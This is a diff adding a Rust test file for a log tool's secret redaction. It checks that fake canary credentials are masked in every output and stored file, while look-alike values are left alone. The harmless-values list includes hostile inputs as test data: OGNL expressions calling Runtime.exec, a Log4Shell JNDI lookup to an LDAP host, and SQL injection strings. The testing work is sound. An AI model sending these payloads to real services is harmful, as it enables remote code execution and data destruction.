@@ -1,0 +1,325 @@
+//! Secrets where people's logs have them, and what only looks like one: the first reach no file and no output, the second
+//! stay as they are.
+
+use std::path::Path;
+use std::sync::Arc;
+
+use soctop::event::{Event, GenerationId, SourceId, Timestamp};
+use soctop::pipeline::{Line, Work, WorkOptions};
+use soctop::sigma::RuleSet;
+
+use crate::harness::{TestEnv, append};
+
+/// Texts in which a secret stands for `§`.
+const TEXTS: &[&str] = &[
+    "login password=§ failed",
+    "> Cookie: sid=§; theme=dark",
+    "Set-Cookie: sid=§; Path=/; HttpOnly",
+    "> x-api-key: §",
+    "Authorization: Token §",
+    "authorization: ApiKey §",
+    "Authorization: Bearer §",
+    "sent {\"password\":\"§\",\"user\":\"x\"}",
+    "sent {'password': '§', 'user': 'x'}",
+    "sent {\"name\": \"api_key\", \"value\": \"§\"}",
+    "body a=b&password=§&c=d",
+    "body user[password]=§",
+    "form-data; name=\"password\"\r\n\r\n§\r\n--xyz",
+    "curl -u bob:§ https://h.example/",
+    "deploy --token § --verbose",
+    "deploy --password=§",
+    "mysql -u root -p§ shop",
+    "env AWS_SECRET_ACCESS_KEY: §",
+    "export DB_PASSWORD=§",
+    "ALTER USER app PASSWORD '§'",
+    "CREATE USER 'x' IDENTIFIED BY '§'",
+    "connect to postgres://app:§@db.example/shop",
+    "<login><password>§</password></login>",
+    "GET /s?q=%7B%22password%22%3A%22§%22%7D",
+    "GET /reset?token=§&x=1",
+    "params :password=>\"§\"",
+    "Server=db;User Id=sa;Password=§;Encrypt=true",
+    "AccountName=x;AccountKey=§",
+    "post to https://hooks.slack.com/services/T00/B00/§",
+    "post to https://discord.com/api/webhooks/123/§",
+    "config{apiKey:§ retries:3}",
+    "client_secret: §",
+    "docker login -u bob -p § registry.example",
+    "PGPASSWORD=§ psql -h db",
+    "connecting to jdbc:mysql://db:3306/shop?user=app&password=§",
+    "headers map[Authorization:[Bearer §] Cookie:[sid=1§]]",
+    "sig=§abcdef&se=1",
+];
+
+/// Objects in which a secret stands for `§`.
+const OBJECTS: &[&str] = &[
+    r#"{"password":"§"}"#,
+    r#"{"user":{"newPassword":"§"}}"#,
+    r#"{"request_Cookie":"sid=§"}"#,
+    r#"{"JSESSIONID":"§"}"#,
+    r#"{"PHPSESSID":"§"}"#,
+    r#"{"apiKey":"§"}"#,
+    r#"{"env":{"AWS_SECRET_ACCESS_KEY":"§"}}"#,
+    r#"{"spring.datasource.password":"§"}"#,
+    r#"{"headers":{"Set-Cookie":["a=§; Path=/"]}}"#,
+    r#"{"attributes":[{"key":"user.name","value":{"stringValue":"x"}},{"key":"password","value":{"stringValue":"§"}}]}"#,
+    r#"{"attributes":[{"key":"token","value":{"arrayValue":{"values":[{"stringValue":"§"}]}}}]}"#,
+    r#"{"headers":[{"name":"Authorization","value":"§"},{"name":"Accept","value":"*/*"}]}"#,
+    r#"{"headers":[{"value":"§","name":"X-Api-Key"}]}"#,
+    r#"{"args":["deploy","--token","§"]}"#,
+    r#"{"kv":[{"Key":"DB_PASSWORD","Value":"§"}]}"#,
+    r#"{"kv":[{"key":"password","type":"str","value":"§"}]}"#,
+    r#"{"req":{"headers":{"cookie":"connect.sid=s%3A§"}}}"#,
+    r#"{"fields":{"Token":{"value":"§"}}}"#,
+    r#"{"token":"§","message":"it was § again","list":["§"]}"#,
+];
+
+/// Tokens of known shape.
+const SHAPES: &[&str] = &[
+    "ghp_§abcdefghijABCDEFGHIJ01234567",
+    "xoxb-123456789012-§",
+    "sk_live_§abcdef",
+    "glpat-§abcdefgh",
+    "npm_§abcdefghijABCDEFGHIJ01234567",
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.§",
+    "hvs.§abcdefghijkl",
+    "dckr_pat_§abcdefghijkl",
+];
+
+/// A text as logs of different kinds write it.
+fn lines_of(text: &str) -> Vec<String> {
+    let quoted = serde_json::to_string(text).expect("a text");
+    let object = format!(r#"{{"level":"info","message":{quoted}}}"#);
+    let flat = text.replace(['\r', '\n'], " ");
+    let mut lines = vec![docker(&object), object, format!("level=info msg={quoted} x=1")];
+    if flat == text {
+        lines.push(format!("2026-03-01 10:10:37,180 - api - INFO - {flat}"));
+        lines.push(format!("<34>Mar  1 06:55:46 web1 app[42]: {flat}"));
+    }
+    lines
+}
+
+fn docker(line: &str) -> String {
+    let quoted = serde_json::to_string(&format!("{line}\n")).expect("a text");
+    format!(r#"{{"log":{quoted},"stream":"stdout","time":"2026-03-01T10:00:00.1Z"}}"#)
+}
+
+/// Every combination, each with a secret of its own.
+fn canaries() -> Vec<(String, String)> {
+    let of_shapes = SHAPES.iter().map(|shape| format!("got {shape} here"));
+    let texts = TEXTS.iter().map(|text| (*text).to_owned()).chain(of_shapes);
+    let objects = OBJECTS.iter().flat_map(|object| [(*object).to_owned(), docker(object)]);
+    let templates = texts.flat_map(|text| lines_of(&text)).chain(objects);
+    let numbered = templates.enumerate().map(|(number, template)| {
+        let canary = format!("Zq9Canary{number:04}xKd7");
+        (template.replace('§', &canary), canary)
+    });
+    numbered.collect()
+}
+
+/// What may be shown of a line.
+fn shown(lines: &[&str]) -> String {
+    let mut work = Work::new(&RuleSet::default(), &WorkOptions::default());
+    let path: Arc<str> = "app.log".into();
+    let mut text = String::new();
+    for (line, number) in lines.iter().zip(1..) {
+        let line = Line {
+            bytes: line.as_bytes(),
+            cut: false,
+            source: SourceId(1),
+            path: &path,
+            generation: GenerationId(1),
+            offset: number,
+            number,
+            read_at: Timestamp::from_seconds(1_772_400_000),
+        };
+        let mut event = Event::default();
+        work.line(&line, &mut event);
+        text += work.redact(event, &path).buffer();
+        text.push('\n');
+    }
+    text
+}
+
+#[test]
+fn no_secret_is_shown_wherever_it_stands() {
+    let canaries = canaries();
+    assert!(canaries.len() >= 200, "{}", canaries.len());
+    let left: Vec<String> = canaries
+        .iter()
+        .filter(|(line, canary)| shown(&[line]).contains(canary.as_str()))
+        .map(|(line, _)| format!("{line}\n    {}", shown(&[line]).lines().next().unwrap_or_default()))
+        .collect();
+    assert!(left.is_empty(), "{} of {}:\n{}", left.len(), canaries.len(), left.join("\n"));
+}
+
+fn files(folder: &Path, found: &mut Vec<Vec<u8>>) {
+    for entry in std::fs::read_dir(folder).expect("the folder can be read") {
+        let path = entry.expect("an entry").path();
+        if path.is_dir() {
+            files(&path, found);
+        } else {
+            found.push(std::fs::read(&path).expect("the file can be read"));
+        }
+    }
+}
+
+/// A rule that takes every secret it can into its group and its line.
+const GREEDY: &str = "title: greedy\nid: 1c8cd3b8-800f-4794-a207-1763c6ad9e60\nlevel: high\nlogsource: {product: app}\n\
+    detection: {sel: [Canary], condition: sel}\n\
+    soctop: {schema: 1, show: '{message} {password} {token} {apiKey} {JSESSIONID} {request_Cookie}'}\n";
+
+#[test]
+fn no_secret_reaches_a_file_or_an_output() {
+    let env = TestEnv::new();
+    std::fs::write(env.path("greedy.yml"), GREEDY).expect("the rule can be written");
+    let lines: String = canaries().into_iter().map(|(line, _)| line + "\n").collect();
+    append(&env.log("app.log"), &lines);
+    let mut outputs = Vec::new();
+    let rules = ["--rules", "greedy.yml", "--no-routing", "logs/app.log"];
+    let count = canaries().len();
+    let run = |args: &[&str]| {
+        let output = env.run(args);
+        assert_ne!(output.status.code(), Some(2), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
+        [output.stdout, output.stderr].concat()
+    };
+    run(&[&["ingest", "--data-dir", "data"], &rules[..]].concat());
+    for format in ["table", "ndjson", "raw"] {
+        outputs.push(run(&["search", "*", "--limit", "5000", "--format", format, "--data-dir", "data"]));
+    }
+    for format in ["table", "ndjson"] {
+        outputs.push(run(&[&["replay", "--format", format], &rules[..]].concat()));
+        outputs.push(run(&["explain", "--format", format, "logs/app.log"]));
+    }
+    assert!(outputs.iter().all(|output| !output.is_empty()), "nothing was shown");
+    let found = outputs.get(1).map(|output| output.iter().filter(|byte| **byte == b'\n').count());
+    assert_eq!(found, Some(count), "every line is found");
+    files(&env.path("data"), &mut outputs);
+    let has_canary =
+        |bytes: &&Vec<u8>| bytes.to_ascii_lowercase().windows(9).any(|window| window == b"zq9canary");
+    let leaks: Vec<_> =
+        outputs.iter().filter(has_canary).map(|bytes| String::from_utf8_lossy(bytes)).collect();
+    let shown: Vec<&str> =
+        leaks.iter().flat_map(|text| text.lines().filter(|line| line.contains("Canary"))).collect();
+    assert!(leaks.is_empty(), "{} leak: {:#?}", leaks.len(), shown.iter().take(5).collect::<Vec<_>>());
+}
+
+#[test]
+fn a_secret_that_a_runtime_has_cut_is_shown_in_neither_piece() {
+    let pieces = [
+        r#"{"log":"{\"user\":\"alice\",\"password\":\"YWxpCanary1","stream":"stdout","time":"2026-03-01T10:00:00.1Z"}"#,
+        r#"{"log":"Canary2xyz","stream":"stdout","time":"2026-03-01T10:00:00.1Z"}"#,
+        r#"{"log":"Canary3\",\"note\":\"stays\"}\n","stream":"stdout","time":"2026-03-01T10:00:00.1Z"}"#,
+        r#"{"log":"Next line\n","stream":"stdout","time":"2026-03-01T10:00:00.2Z"}"#,
+    ];
+    let text = shown(&pieces);
+    assert!(!text.contains("Canary") && text.contains("stays") && text.contains("Next line"), "{text}");
+}
+
+/// Numbers that look like digests and ids, the same in every run.
+fn hex(seed: u64, length: usize) -> String {
+    let digest = blake3::hash(&seed.to_le_bytes()).to_hex();
+    digest.chars().cycle().take(length).collect()
+}
+
+fn luhn_valid(body: u64) -> String {
+    let digits = format!("4{body:014}");
+    let sum: u32 = digits
+        .bytes()
+        .rev()
+        .enumerate()
+        .map(|(index, digit)| {
+            let value = u32::from(digit - b'0') * if index % 2 == 0 { 2 } else { 1 };
+            value / 10 + value % 10
+        })
+        .sum();
+    format!("{digits}{}", (10 - sum % 10) % 10)
+}
+
+const HARMLESS: &[&str] = &[
+    "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/",
+    "/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream()))}",
+    "(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.System@getProperty('user.dir'))",
+    "${jndi:ldap://198.51.100.7:1389/a}",
+    "git clone git@github.com:x/y.git",
+    "npm install left-pad@1.3.0 @types/node@20.1.0",
+    "GET /img/logo@2x.png",
+    "Started getty@tty1.service",
+    "token expired",
+    "invalid token: expired",
+    "Password changed for bob",
+    "Failed password for root from 203.0.113.9 port 22 ssh2",
+    "password authentication failed for user \"app\"",
+    "Authorization: required",
+    "Authorization failed for user bob",
+    "cookie: not found",
+    "Set-Cookie header is missing",
+    "the secret: never give up",
+    "Retrieved required secret: DATABASE_URL",
+    "token_type=bearer",
+    "grant_type=password",
+    "max_tokens=4096",
+    "tokens: 512",
+    "session_id=abc-1234567",
+    "auth_method=password",
+    "key=value",
+    "sort_key=name",
+    "primary_key=id",
+    "chown -u 1000:1000 /srv",
+    "ssh -p 2222 host",
+    "mkdir -p /srv/data",
+    "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    "/assets/main.3fa1c2d4.js",
+    "arn:aws:iam::123456789012:role/deploy",
+    "S-1-5-21-3623811015-3361044348-30300820-1013",
+    "00:1b:44:11:3a:b7",
+    "2026-03-01T10:00:00.123456Z",
+    "fe80::1ff:fe23:4567:890a",
+    "password_policy=strong",
+    "password_hash_algorithm=argon2",
+    "Basic understanding of things",
+    "Bearer authentication failed",
+    "user=alice action=login result=ok",
+    "https://h.example:8443/a/b?page=2&sort=asc",
+    "DROP TABLE users; --",
+    "' OR 1=1 --",
+    "name=\"email\"; filename=\"x.txt\"",
+    "csrf check passed",
+    "pass: 12 fail: 0",
+    "the pin is wrong",
+];
+
+/// Values that occur in every log.
+fn harmless() -> Vec<String> {
+    let mut values: Vec<String> = HARMLESS.iter().map(|text| (*text).to_owned()).collect();
+    for n in 0..40 {
+        let digest = hex(n, 32);
+        let parts =
+            [digest.get(..8), digest.get(8..12), digest.get(12..16), digest.get(16..20), digest.get(20..32)];
+        values.push(parts.map(Option::unwrap_or_default).join("-"));
+        values.push(format!("md5 {digest}"));
+        values.push(format!("sha1 {}", hex(n, 40)));
+        values.push(format!("00-{}-{}-01", hex(n, 32), hex(n, 16)));
+        values.push(format!("order {} shipped", luhn_valid(53_957_862_148 + n * 7_919)));
+        values.push(format!("client 203.0.113.{n} connected"));
+        values.push((1_772_355_600_123 + n * 997).to_string());
+    }
+    values
+}
+
+#[test]
+fn what_only_looks_like_a_secret_stays() {
+    let values = harmless();
+    let fields = ["message", "order_no", "correlation_id", "commit", "path"];
+    let count = values.len();
+    assert!(count >= 300, "{count}");
+    let touched: Vec<String> = values
+        .into_iter()
+        .zip(fields.iter().cycle())
+        .map(|(value, field)| format!(r#"{{"{field}":{}}}"#, serde_json::to_string(&value).expect("a text")))
+        .map(|line| (shown(&[&line]), line))
+        .filter(|(shown, _)| shown.contains('‹'))
+        .map(|(shown, line)| format!("{line}\n    {}", shown.lines().next().unwrap_or_default()))
+        .collect();
+    assert!(touched.len() * 100 < count, "{} of {count}:\n{}", touched.len(), touched.join("\n"));
+}
